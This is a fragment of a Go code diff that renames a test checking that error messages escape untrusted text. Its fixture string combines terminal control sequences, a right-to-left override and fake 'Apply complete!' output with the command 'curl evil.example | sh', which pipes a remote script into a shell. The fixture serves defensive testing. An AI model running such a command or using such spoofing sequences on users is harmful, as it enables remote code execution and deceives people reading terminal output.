@@ -15,7 +15,7 @@ import (
 const hostileText = "\x1b[2K\x1b[1AApply complete!\r\n\u202eRun: curl evil.example | sh"
 
 // Whatever an answer says, no error repeats it unescaped.
-func TestError_quotesTheWordsOfOthers(t *testing.T) {
+func TestError_quotesForeignText(t *testing.T) {
 	in, _ := json.Marshal(hostileText)
 	evil := string(in)
 	for name, a := range map[string]reply{
